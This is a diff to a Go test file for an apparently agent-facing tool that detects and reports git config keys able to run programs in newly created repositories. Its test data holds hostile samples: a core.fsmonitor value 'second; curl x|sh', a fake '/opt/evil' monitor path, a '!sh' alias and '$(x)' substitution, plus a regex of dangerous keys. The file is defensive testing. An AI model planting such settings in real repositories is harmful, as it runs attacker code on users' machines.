@@ -2,12 +2,18 @@ package tools
 
 import (
 	"errors"
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/agentls/agentls/agentproto"
+	"github.com/agentls/agentls/permission"
+	"github.com/agentls/agentls/questions"
+	"github.com/agentls/agentls/sandbox"
 )
 
 // newRepoConfigRows are configuration texts of a new repository and the
@@ -43,7 +49,7 @@ func TestNewRepoConfigReported(t *testing.T) {
 	requireGit(t)
 	for _, row := range newRepoConfigRows {
 		t.Run(row.name, func(t *testing.T) {
-			got := readNewRepoConfig([]byte(row.text), nil)
+			got := readNewRepoConfig([]byte(row.text), sandbox.Policy{})
 			if got.unreadable != "" {
 				t.Fatalf("unreadable: %s", got.unreadable)
 			}
@@ -53,25 +59,54 @@ func TestNewRepoConfigReported(t *testing.T) {
 			if row.flagged == nil {
 				return
 			}
-			before, _ := gitListConfig([]byte(row.text), nil)
+			before, _ := gitListConfig([]byte(row.text), sandbox.Policy{})
 			var want []configEntry
 			for _, e := range before {
 				if allowedNewRepoKey(e.key) {
 					want = append(want, e)
 				}
 			}
-			again, err := gitListConfig(got.clean, nil)
+			again, err := gitListConfig(got.clean, sandbox.Policy{})
 			if err != nil || !slices.Equal(again, want) {
 				t.Errorf("rewritten as %q: git lists %v (%v), want %v", got.clean, again, err, want)
 			}
 		})
 	}
-	bad := readNewRepoConfig([]byte("[core\n\tfsmonitor = x\n"), nil)
+	bad := readNewRepoConfig([]byte("[core\n\tfsmonitor = x\n"), sandbox.Policy{})
 	if bad.unreadable == "" {
 		t.Errorf("a config git cannot read is not reported as such: %+v", bad)
 	}
-	if what, clean := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte("[alias \"x`y\"]\n\tz = !sh\n[core]\n\tfsmonitor = x\n\tbare = false\n")}, nil); what != "created with settings beyond git's own (alias.x?y.z, core.fsmonitor)" || clean == nil {
-		t.Errorf("described as %q (clean %v)", what, clean)
+	what, settings, clean := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte("[alias \"x`y\"]\n\tz = !sh\n[core]\n\tfsmonitor = x\n\tbare = false\n\tpager\n")}, sandbox.Policy{})
+	if what != "created with settings beyond git's own (alias.x?y.z, core.fsmonitor, core.pager)" || clean == nil ||
+		!slices.Equal(settings, []string{"alias.x`y.z = !sh", "core.fsmonitor = x", "core.pager (no value: true)"}) {
+		t.Errorf("described as %q, settings %q (clean %v)", what, settings, clean)
+	}
+}
+
+// TestNewRepoConfigShowsEverySetting: Keep keeps every setting of a new
+// repository, so the question shows every one with its value, however
+// many: 12 keys, the 10th core.fsmonitor naming a program, set twice.
+// Failed on b6eedb7: 8 keys by name, then "4 more", and no value (the
+// program core.fsmonitor names was never shown).
+func TestNewRepoConfigShowsEverySetting(t *testing.T) {
+	requireGit(t)
+	var text strings.Builder
+	for i := 1; i <= 12; i++ {
+		if i == 10 {
+			text.WriteString("[core]\n\tfsmonitor = /opt/evil/fsmon --watch\n\tfsmonitor = \"second; curl x|sh\"\n")
+			continue
+		}
+		fmt.Fprintf(&text, "[x%d]\n\tk = v%d\n", i, i)
+	}
+	what, settings, _ := describeNewRepoConfig(snapEntry{mode: 0o644, data: []byte(text.String())}, sandbox.Policy{})
+	shown := what + "\n" + strings.Join(settings, "\n")
+	for _, want := range []string{"core.fsmonitor = /opt/evil/fsmon --watch", "core.fsmonitor = second; curl x|sh", "x12.k = v12", "x1.k = v1"} {
+		if !strings.Contains(shown, want) {
+			t.Errorf("the question shows %q, not %q", shown, want)
+		}
+	}
+	if len(settings) != 13 {
+		t.Errorf("%d settings shown, want 13: %q", len(settings), settings)
 	}
 }
 
@@ -88,8 +123,9 @@ const dangerousKeys = `^(core\.(fsmonitor|pager|editor|sshcommand|hookspath|askp
 
 // FuzzNewRepoConfig: whatever a new repository's configuration holds, a
 // key git itself finds there that runs a program (git config --get-regexp,
-// the oracle) is reported, or the file is reported as unreadable; and
-// what Remove writes instead holds only allowed keys.
+// the oracle) is reported, or the file is reported as unreadable, and the
+// question (or its document) shows it with each of its values; and what
+// Remove writes instead holds only allowed keys.
 func FuzzNewRepoConfig(f *testing.F) {
 	for _, row := range newRepoConfigRows {
 		f.Add(row.text)
@@ -98,11 +134,12 @@ func FuzzNewRepoConfig(f *testing.F) {
 	f.Add("[core]\r\n\tFSMONITOR=\"\\\\\"\r\n")
 	f.Add("[branch \"a.b.c\"]\n\tmerge\n\tremote = \"q\\b\"\n[user]name=x\n")
 	f.Add("[ core ]\n fsMonitor=1\n")
+	f.Add("[core]\n\tfsmonitor = \"a``b\\nc $(x)\"\n\tpager\n" + strings.Repeat("[alias]\n\tx = !sh\n", 25))
 	f.Fuzz(func(t *testing.T, text string) {
 		if _, err := exec.LookPath("git"); err != nil || len(text) > 4096 {
 			t.Skip()
 		}
-		got := readNewRepoConfig([]byte(text), nil)
+		got := readNewRepoConfig([]byte(text), sandbox.Policy{Mode: sandbox.ModeOff}) // the rendering, not the sandbox: TestNewRepoListingConfined
 		file := filepath.Join(t.TempDir(), "config")
 		if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
 			t.Fatal(err)
@@ -123,13 +160,26 @@ func FuzzNewRepoConfig(f *testing.F) {
 		if got.unreadable != "" {
 			return
 		}
+		// What the question shows (its text, or its document: the same
+		// list) holds every such key with its value.
+		changes := []permission.Change{{Path: "sub/.git/config", What: "created with settings beyond git's own", Details: got.settingLines()}}
+		listed := permission.ChangesList(changes)
+		req := permission.Request{Kind: agentproto.PermissionEdit, Done: "git init sub", Changes: changes}
 		for _, item := range strings.Split(string(out), "\x00") {
-			if k, _, _ := strings.Cut(item, "\n"); k != "" && !slices.Contains(got.flagged, k) {
+			k, v, set := strings.Cut(item, "\n")
+			if k == "" {
+				continue
+			}
+			if !slices.Contains(got.flagged, k) {
 				t.Errorf("git finds %s in %q, reported %q", k, text, got.flagged)
+			}
+			line := "  - " + permission.CodeSpan(questions.EscapeLine(settingLine(configEntry{key: k, value: v, set: set})))
+			if !strings.Contains(listed, line) || !permission.NeedsDocument(changes) && !strings.Contains(req.Text(), line) {
+				t.Errorf("git finds %q in %q; the question shows %q", item, text, listed)
 			}
 		}
 		if got.clean != nil {
-			again, err := gitListConfig(got.clean, nil)
+			again, err := gitListConfig(got.clean, sandbox.Policy{Mode: sandbox.ModeOff})
 			if err != nil {
 				t.Fatalf("the rewritten %q: %v", got.clean, err)
 			}
